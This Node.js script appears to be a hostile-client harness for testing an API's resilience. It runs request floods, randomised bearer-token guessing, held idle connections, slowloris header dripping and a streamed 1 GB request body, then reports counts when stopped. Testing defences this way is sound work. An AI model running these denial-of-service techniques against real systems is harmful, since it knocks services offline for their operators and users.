// One hostile client, from an address of its own. Run as a process, so that what it costs to attack is not counted to
// those who are attacked. Prints what it did as JSON when it is told to stop.
import { Agent, request } from 'node:http';
import { connect } from 'node:net';

const [url, from, ways, perSecond, token] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const counts = {};
const count = (what) => {
  counts[what] = (counts[what] ?? 0) + 1;
};
const agent = new Agent({ keepAlive: true, maxSockets: 64, localAddress: from });
const EVERY_MS = 20;

/** Requests at a fixed rate, answered or not. */
function flood(headersOf, path) {
  setInterval(() => {
    for (let n = 0; n < (Number(perSecond) * EVERY_MS) / 1_000; n += 1) {
      const sent = request({ hostname, port, path, agent, headers: headersOf() }, (answer) => {
        count(answer.statusCode);
        answer.resume();
      });
      sent.on('error', () => count('error'));
      sent.end();
    }
  }, EVERY_MS);
}

/** Connections that are held, and opened anew when they are closed. */
function hold(many, speak) {
  const open = () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from }, () => speak(socket));
    count('opened');
    socket.on('error', () => count('error'));
    socket.on('close', () => setTimeout(open, 1_000));
    socket.resume();
  };
  for (let n = 0; n < many; n += 1) open();
}

const WAYS = {
  requests: () => flood(() => ({ authorization: `Bearer ${token}` }), '/v1/desk?limit=100'),
  tokens: () =>
    flood(
      () => ({ authorization: `Bearer ${token.slice(0, -8)}${Math.random().toString(36).slice(2, 10)}` }),
      '/v1/me',
    ),
  silent: () => hold(2_000, () => {}),
  slow: () =>
    hold(500, (socket) => {
      socket.write('POST /v1/submissions HTTP/1.1\r\nHost: x\r\n');
      const drip = setInterval(() => socket.write('X-Slow: x\r\n'), 1_000);
      socket.on('close', () => clearInterval(drip));
    }),
  bodies: () =>
    hold(20, (socket) => {
      socket.write(
        'POST /v1/submissions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n',
      );
      const block = Buffer.alloc(65_536, 'x');
      const more = () => {
        while (socket.writable && socket.write(block)) count('blocks');
      };
      socket.on('drain', more);
      more();
    }),
};

for (const way of ways.split(',')) WAYS[way]();
process.on('SIGTERM', () => {
  process.stdout.write(JSON.stringify(counts), () => process.exit());
});
